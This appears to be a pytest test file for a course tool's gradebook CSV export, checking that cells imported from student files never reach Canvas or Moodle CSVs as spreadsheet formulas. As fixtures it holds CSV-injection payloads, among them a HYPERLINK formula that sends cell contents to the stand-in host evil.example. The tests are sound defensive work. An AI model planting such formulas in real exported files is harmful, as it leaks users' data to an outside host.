"""The gradebooks, safe to open and to import: no cell from a file is ever a formula, no import without a roster,
Canvas's `Title (ID)` columns and "Points Possible" row, an empty cell (not 0) for who handed in nothing."""

import csv
import io
import re

import pytest

from sourcebook.course import load_course
from sourcebook.datafile import DataError
from sourcebook.instructor.classwork import load_class
from sourcebook.instructor.gradebook import FORMULA, canvas_csv, moodle_csv, text_cell
from sourcebook.instructor.roster import load_roster
from sourcebook.reading.workfile import new_work, write_work

from .conftest import ROOT, copy_course_data, sourcebook_cli

A = "week-1-sourcing"
LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUM = "@SUM(1+1)"
# One hostile value per cell a file fills in, each starting as a spreadsheet formula does.
HOSTILE = {"name": LINK, "lms_id": SUM, "email": "+1+1@uni.example", "sis_user_id": "-2+3", "section": "=1+1"}


@pytest.fixture(scope="module")
def course():
    return load_course()


def work_file(folder, file, name, sid="", answered=True):
    work = new_work(name=name, edition="student", build="test")
    if sid:
        work["student"]["id"] = sid
    if answered:
        work["answers"] = {f"{A}:1": {"text": "An answer.", "updated": "2026-12-01T08:00:00.000Z"}}
    return write_work(folder / file, work)


@pytest.fixture
def roster(tmp_path):
    path = tmp_path / "roster.csv"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["name", "email", "lms_id", "sis_user_id", "sis_login_id", "section"])
    writer.writerow(
        [HOSTILE["name"], HOSTILE["email"], HOSTILE["lms_id"], HOSTILE["sis_user_id"], "@x", HOSTILE["section"]]
    )
    writer.writerow(["Chen Wu", "chen@uni.example", "1003", "", "", "B"])
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def cells(text):
    """Every cell of a CSV, parsed back as a spreadsheet program would split it."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_no_cell_from_a_file_reaches_a_csv_as_a_formula(course, tmp_path, roster):
    files = [work_file(tmp_path, "evil.json", LINK, SUM)]
    rostered = load_class(files, course.banks.exercises, load_roster(roster))
    assert rostered.students[0].member is not None  # matched by its id, so the row carries every hostile cell
    drafts = load_class(files, course.banks.exercises)
    checked = 0
    for text, kept in (
        (canvas_csv(rostered, course), (LINK, SUM)),
        (moodle_csv(rostered, course), (SUM,)),  # Moodle's file has no name column
        (canvas_csv(drafts, course), (LINK, SUM)),
        (moodle_csv(drafts, course), (SUM,)),
    ):
        found = cells(text)
        assert not [c for c in found if c.startswith(FORMULA)], found
        checked += len(found)
        assert all(f"'{value}" in found for value in kept)  # kept, as text
    rows = list(csv.reader(io.StringIO(canvas_csv(rostered, course))))
    evil = rows[2]
    assert evil[:5] == ["'" + HOSTILE["name"], "'" + SUM, "'" + HOSTILE["sis_user_id"], "'@x", "'" + HOSTILE["section"]]
    assert float(evil[5]) > 0 and not evil[5].startswith("'")  # the score the program computed stays a number
    assert checked > 40


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_start_is_neutralised_and_the_rest_left_alone(lead):
    assert text_cell(f"{lead}1+1") == f"'{lead}1+1"
    assert [text_cell(v) for v in ("Amira", "1002", "a@b.example", " =x", "")] == [
        "Amira",
        "1002",
        "a@b.example",
        " =x",
        "",
    ]


def test_without_a_roster_the_gradebooks_are_refused_unless_a_draft(course, tmp_path):
    files = [str(work_file(tmp_path, "a.json", "Amira Karimova"))]
    out = tmp_path / "out"
    out.mkdir()

    def overview(*options):  # in this process, on the loaded course (test_classwork runs `overview` as a process)
        return sourcebook_cli("--course", ROOT, "overview", *files, "--out", out / "r.html", *options, course=course)

    for lms, why in (("canvas", "Canvas user ID or SIS ID"), ("moodle", "e-mail address or ID number")):
        result = overview(f"--{lms}-csv", str(out / f"{lms}.csv"))
        assert result.returncode == 1 and f"error: --{lms}-csv needs --roster: " in result.stderr
        assert why in result.stderr and "--draft" in result.stderr
    assert list(out.iterdir()) == []  # refused before anything is written
    result = overview("--canvas-csv", str(out / "canvas.csv"), "--moodle-csv", str(out / "moodle.csv"), "--draft")
    assert result.returncode == 0, result.stderr
    assert result.stdout.count("(a draft without a roster: not for import)") == 2
    assert list(csv.reader((out / "moodle.csv").open(encoding="utf-8")))[1][0] == ""  # no e-mail: a draft indeed


def test_canvas_columns_name_the_assignment_and_its_points(course, tmp_path, roster):
    copy_course_data(tmp_path / "course")
    path = tmp_path / "course/exercises/assignments/week-1-sourcing.yml"
    path.write_text(path.read_text(encoding="utf-8") + "canvas_assignment_id: 4321\n", encoding="utf-8")
    named = load_course(tmp_path / "course")
    work = load_class([work_file(tmp_path, "evil.json", LINK, SUM)], named.banks.exercises, load_roster(roster))
    rows = list(csv.reader(io.StringIO(canvas_csv(work, named))))
    title = course.assignments[A].title
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{title} (4321)"]
    assert rows[1] == ["Points Possible", "", "", "", "", "10"] and len(rows) == 4
    # Without the id: the title alone (Canvas then matches it by title, or makes a new assignment).
    assert list(csv.reader(io.StringIO(canvas_csv(work, course))))[0][-1] == title
    for table in (canvas_csv(work, named), moodle_csv(work, named)):
        assert not any("last downloaded" in h.casefold() for h in next(csv.reader(io.StringIO(table))))


@pytest.mark.parametrize("value", ["0", "-5", "'12a'", "true", "12.5"])
def test_a_bad_canvas_assignment_id_stops_with_file_and_line(tmp_path, value):
    copy_course_data(tmp_path)
    path = tmp_path / "exercises/assignments/week-1-sourcing.yml"
    path.write_text(path.read_text(encoding="utf-8") + f"canvas_assignment_id: {value}\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"week-1-sourcing\.yml:\d+: 'canvas_assignment_id' must be the number"):
        load_course(tmp_path)


def test_who_handed_in_nothing_gets_an_empty_cell_unless_zeros(course, tmp_path, roster):
    work = load_class([work_file(tmp_path, "evil.json", LINK, SUM)], course.banks.exercises, load_roster(roster))
    assert [m.name for m in work.missing] == ["Chen Wu"]
    checked = 0
    for write in (canvas_csv, moodle_csv):
        for zeros, expected in ((False, ""), (True, "0")):
            rows = list(csv.reader(io.StringIO(write(work, course, zeros))))
            chen = [r for r in rows if "chen@uni.example" in r or "Chen Wu" in r]
            assert len(chen) == 1 and chen[0][-1] == expected
            handed_in = [r for r in rows if "'" + SUM in r]
            assert len(handed_in) == 1 and re.fullmatch(r"\d+(\.\d+)?", handed_in[0][-1])
            checked += 1
    assert checked == 4


def test_the_comments_template_is_text_too_and_reads_back(course, tmp_path):
    from sourcebook.instructor.feedback import comments_template, feedback_files, load_comments

    file = work_file(tmp_path, "evil.json", LINK, answered=False)
    work = new_work(name=LINK, edition="student", build="test")
    work["answers"] = {f"{A}:1": {"text": "=1+1 is my answer", "updated": "2026-12-01T08:00:00.000Z"}}
    write_work(file, work)
    work = load_class([file], course.banks.exercises)
    rows = list(csv.reader(io.StringIO(comments_template(work, course))))
    found = [c for row in rows for c in row]
    assert rows[0][2] == "question" and rows[1][0] == "'" + LINK and rows[1][4] == "'=1+1 is my answer"
    assert not [c for c in found if c.startswith(FORMULA)] and len(found) == 10
    rows[1][3] = "Well argued."  # the instructor fills in a comment and saves the file
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (tmp_path / "comments.csv").write_text(out.getvalue(), encoding="utf-8")
    files = feedback_files(work, course, load_comments(tmp_path / "comments.csv"), tmp_path / "comments.csv")
    [sheet] = files.values()
    assert sheet["student"]["name"] == LINK and sheet["items"][0]["comment"] == "Well argued."
